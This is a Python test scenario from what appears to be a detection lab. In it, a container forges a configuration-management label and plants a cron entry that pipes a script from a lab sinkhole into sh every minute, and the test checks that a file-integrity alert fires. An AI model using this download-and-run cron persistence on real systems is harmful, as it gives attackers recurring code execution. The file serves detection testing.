"""A container that claims to be managed by configuration management plants a cron job in its file."""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class ManagedCronLookalike(Scenario):
    id = "docker.fim.managed-cron-lookalike"
    title = "Container claiming configuration management plants a download-and-run job in its cron file"
    kind = Kind.ADVERSARY
    backends = ("docker", "kubernetes")
    techniques = ("T1053.003",)
    expect = Expectation(fires=("stowaway.host.fim-cron",), within_s=15, may_fire={
        "stowaway.k8s.exec-into-pod": "On Kubernetes the operator really runs its commands in the pod with "
                                      "kubectl exec.",
    })
    twin = "docker.fim.config-management"
    forges = ("declared_changes/declared/config-management-cron",)
    tags = ("fim", "persistence", "forged-sanction")
    description = (
        "Copies what the managed service shows: the label app.kubernetes.io/managed-by=confd, the role name, "
        "and the path the configuration-management agent owns, /etc/cron.d/logship, written the way the agent "
        "writes it (a temporary copy renamed into place). But the container runs the plain base image, not "
        "the platform's managed-service image, and the entry it writes fetches a script from the lab "
        "internet every minute and pipes it to sh. The scenario checks the entry is in place."
    )

    def detonate(self, lab: Lab) -> None:
        box = lab.deploy(WorkloadSpec(role="api", labels={"app.kubernetes.io/managed-by": "confd"}))
        entry = f"* * * * * root curl -s http://{lab.sinkhole.address}/logship.sh | sh"
        lab.action("write a download-and-run entry into the managed cron file")
        lab.exec(box, "sh", "-c", f"echo '{entry}' > /etc/cron.d/.logship.tmp && "
                                  "mv /etc/cron.d/.logship.tmp /etc/cron.d/logship && grep -q curl /etc/cron.d/logship")
